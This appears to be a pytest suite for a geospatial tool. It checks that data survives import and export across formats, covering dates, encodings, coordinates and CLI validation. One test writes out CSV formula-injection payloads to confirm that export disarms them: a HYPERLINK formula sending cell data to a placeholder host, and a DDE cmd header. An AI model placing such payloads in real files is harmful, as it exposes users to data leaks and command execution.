"""What went wrong for others when data went in and out: one test a field case, by its number."""

from __future__ import annotations

import datetime as dt
import json

import pandas as pd
import pytest
import shapely
from click.testing import CliRunner
from exports_data import table_of

from geo_ghouta import control, exports
from geo_ghouta.cli import main
from geo_ghouta.errors import FormatError, GhoutaError
from geo_ghouta.exports.catalog import SUFFIX
from geo_ghouta.gazetteer import read_places
from geo_ghouta.reports import read_reports

TEXT_FORMS = ("geojson", "geojsonseq", "jsonl", "csv", "kml", "topojson")


def write(folder, name, text):
    path = folder / name
    path.write_text(text, "utf-8")
    return path


def strict(data):
    """Parse JSON and refuse the words NaN and Infinity."""

    def refuse(word):
        raise AssertionError(word)

    return json.loads(data, parse_constant=refuse)


def test_f024_a_zone_name_empties_no_table(tmp_path):
    text = "text,date\nHarasta was shelled.,2018-03-22 07:45:09.500 Asia/Damascus\nArbin was shelled.,2018-03-25\nNo day.,x\n"
    reading = read_reports([write(tmp_path, "a.csv", text)])
    days = [None if pd.isna(d) else d.date().isoformat() for d in reading.reports["published"]]
    assert days[:2] == ["2018-03-22", "2018-03-25"]
    assert len(reading.reports) == 3 or len(reading.rejected) == 1  # the third stays undated or is listed


@pytest.mark.parametrize("form", TEXT_FORMS)
def test_f046_nan_and_infinity_are_in_no_file(form):
    table = table_of("events", 2)
    table["count"] = [float("nan"), 1.5]
    table["distance"] = [float("inf"), float("-inf")]
    data = exports.write_layer("events", table, None, format=form).decode()
    if form in {"geojson", "topojson"}:
        strict(data)
    elif form in {"geojsonseq", "jsonl"}:
        assert [strict(line.lstrip("\x1e")) for line in data.splitlines()]
    else:
        plain = data.replace("#", "").lower()
        assert "inf" not in plain
        assert ">nan<" not in plain


@pytest.mark.parametrize("form", exports.FORMATS)
def test_f049_days_clock_times_and_times_of_day_come_back(tmp_path, form):
    table = table_of("control", 2)
    table["seen"] = pd.to_datetime(["2018-03-22T12:30:00", "1969-12-31T23:59:59"])
    table["day"] = pd.to_datetime(["2016-02-29", "1900-02-28"])
    table["clock"] = ["12:30", dt.time(7, 45)]
    back = exports.read_layer(exports.write_layer("control", table, tmp_path / f"control{SUFFIX[form]}"))
    ordered = table.sort_values("area_id").reset_index(drop=True)
    assert [pd.Timestamp(v) for v in back["seen"]] == ordered["seen"].tolist()
    assert [pd.Timestamp(v).date() for v in back["day"]] == [v.date() for v in ordered["day"]]
    assert [str(v)[:5] for v in back["clock"]] == [str(v)[:5] for v in ordered["clock"]]
    assert back["valid_from"].tolist() == ordered["valid_from"].tolist()


def test_f054_the_right_columns_are_taken_as_degrees(tmp_path):
    text = "name,along_route_km,latitude,long,date\nHarasta,12,33.5586,36.365,2018-03-22\n"
    places, rejected = read_places(write(tmp_path, "own.csv", text))
    assert places.geometry.iloc[0].equals(shapely.Point(36.365, 33.5586))
    assert rejected.empty
    with pytest.raises(FormatError, match="longitude") as told:
        read_places(write(tmp_path, "two.csv", "name,lat,long,longitude\nHarasta,33.5,36.3,36.4\n"))
    assert "long" in str(told.value)


def test_f055_good_rows_in_bad_rows_listed(tmp_path):
    text = "name,lat,lon\nHarasta,33.5586,36.365\nArbin,,\nZamalka,thirty,36.35\n"
    places, rejected = read_places(write(tmp_path, "own.csv", text))
    assert places["name"].tolist() == ["Harasta"]
    assert rejected["row"].tolist() == ["line 3", "line 4"]


def test_f057_coordinates_in_quotes_are_told(tmp_path):
    feature = {
        "type": "Feature",
        "properties": {"name": "Harasta"},
        "geometry": {"type": "Point", "coordinates": ["36.365", "33.5586"]},
    }
    places, rejected = read_places(
        write(tmp_path, "own.geojson", json.dumps({"type": "FeatureCollection", "features": [feature]}))
    )
    assert len(places) + len(rejected) == 1
    assert len(rejected) == 1 or places.geometry.iloc[0].equals(shapely.Point(36.365, 33.5586))
    with pytest.raises(FormatError, match=r"feature 1: coordinate '36\.365' is text"):
        exports.read_layer(
            write(tmp_path, "events.geojson", json.dumps({"type": "FeatureCollection", "features": [feature]})),
            "events",
        )


@pytest.mark.parametrize("form", [*exports.FORMATS, "pmtiles"])
def test_f058_ids_stay_text(tmp_path, form):
    table = table_of("control", 1)
    table["source_id"], table["ref"], table["phone"] = "007", "4100-02-30", "+963011"
    table["name"] = "2018-03-22"
    back = exports.read_layer(exports.write_layer("control", table, tmp_path / f"control{SUFFIX[form]}"))
    assert back.loc[0, ["source_id", "ref", "phone", "name"]].tolist() == ["007", "4100-02-30", "+963011", "2018-03-22"]


@pytest.mark.parametrize("form", [*exports.FORMATS, "pmtiles"])
def test_f063_arabic_comes_back_whole(tmp_path, form):
    table = table_of("control", 1).assign(name="حرستا")
    back = exports.read_layer(exports.write_layer("control", table, tmp_path / f"control{SUFFIX[form]}"))
    assert back["name"].tolist() == ["حرستا"]


def test_f063_a_wrong_encoding_is_told_and_can_be_named(tmp_path):
    (tmp_path / "own.csv").write_bytes("name,lat,lon\nحرستا,33.5586,36.365\n".encode("windows-1256"))
    with pytest.raises(GhoutaError, match=r"encoding|UTF-8"):
        read_places(tmp_path / "own.csv")
    (tmp_path / "report.txt").write_bytes("وصلت حافلات إلى حرستا.".encode("windows-1256"))
    told = read_reports([tmp_path / "report.txt"])
    assert len(told.reports) == 0
    assert "encoding" in " ".join(str(v) for v in told.rejected.iloc[0])
    assert "حرستا" in read_reports([tmp_path / "report.txt"], encoding="windows-1256").reports["text"].iloc[0]


def test_f066_every_folder_of_a_kml_is_read_and_its_name_kept(tmp_path):
    def folder(day, name, ring):
        return (
            f"<Folder><name>{day}</name><Placemark><name>{name}</name><ExtendedData><Data name='held_by'><value>us</value></Data>"
            "</ExtendedData><Polygon><outerBoundaryIs><LinearRing>"
            f"<coordinates>{ring}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></Folder>"
        )

    rings = (
        "36.3,33.5,0 36.5,33.5,0 36.5,33.6,0 36.3,33.5,0",
        "36.4,33.5,0 36.5,33.5,0 36.5,33.6,0 36.4,33.5,0",
    )
    body = folder("2018-03-18", "pocket A", rings[0]) + folder("2018-03-25", "pocket B", rings[1])
    path = write(tmp_path, "g.kml", f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>')
    pictures, decisions = control.import_layers([path], date="property:folder", holder="constant:unknown")
    assert [d.date().isoformat() for d in pictures.dates["picture_date"]] == ["2018-03-18", "2018-03-25"]
    assert sorted(pictures.areas["name"]) == ["pocket A", "pocket B"]
    assert not any(g.has_z for g in pictures.areas.geometry)
    assert len(decisions) > 0  # what was decided is told


def test_f067_kml_is_written_longitude_first():
    data = exports.write_layer("events", table_of("events", 2), None, format="kml").decode()
    pair = data.partition("<coordinates>")[2].partition("<")[0].split()[0].split(",")
    assert [float(n) for n in pair] in ([36.365, 33.5586], [-70.1234567, -33.4])


def test_f103_nothing_lies_at_zero_zero(tmp_path):
    places, rejected = read_places(
        write(tmp_path, "own.csv", "name,lat,lon\nHarasta,33.5586,36.365\nUnknown Farm,0,0\n")
    )
    assert places["name"].tolist() == ["Harasta"]
    assert "0,0 means missing" in rejected["problem"].iloc[0]


def test_f139_the_order_of_day_and_month_is_one_for_a_column(tmp_path):
    text = "text,date\nHarasta.,15/4/2018\nArbin.,24/4/2018\nDouma.,2/5/2018\n"
    reading = read_reports([write(tmp_path, "a.csv", text)])
    assert [d.date().isoformat() for d in reading.reports["published"]] == ["2018-04-15", "2018-04-24", "2018-05-02"]
    open_ = read_reports([write(tmp_path, "b.csv", "text,date\nHarasta.,2/5/2018\nArbin.,3/5/2018\n")])
    assert open_.reports["published"].isna().all()
    said = " ".join(str(v) for v in open_.rejected.to_numpy().ravel())
    assert "2018-05-02" in said
    assert "2018-02-05" in said


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x.invalid/?q="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+A1", "\t=2+2", "  =1+1", "\r=1"]
)
def test_f167_f169_text_that_a_spreadsheet_would_run_is_inert_and_numbers_are_numbers(text):
    table = table_of("events", 1).assign(place=text)
    table["change_pct"], table["large"] = -5.25, 32_000.0
    table["=cmd|' /C calc'!A0"] = "x"  # F168: headers too
    lines = exports.write_layer("events", table, None, format="csv").decode()
    assert f"'{text}".replace('"', '""').split("\r")[0] in lines
    assert ",-5.25," in lines
    assert ",32000," in lines
    assert "'=cmd|' /C calc'!A0" in lines.partition("\n")[0]


@pytest.mark.parametrize(
    "words",
    [
        ["map", "--date", "2018-13-40"],
        ["map", "--bbox", "1,2,3"],
        ["map", "-o", "nowhere/m.html"],
        ["export", "-o", "nowhere/c.geojson"],
        ["export", "--format", "shp"],
        ["export", "--from", "soon"],
        ["picture", "--size", "wide"],
        ["corpus", "nowhere.jsonl", "-o", "out"],
    ],
)
def test_f182_wrong_values_are_told_before_any_work(tmp_path, monkeypatch, words):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("geo_ghouta.pipeline.run", lambda *_a, **_k: pytest.fail("work was begun"))
    done = CliRunner().invoke(main, words)
    assert done.exit_code == 2, done.output
    assert list(tmp_path.iterdir()) == []
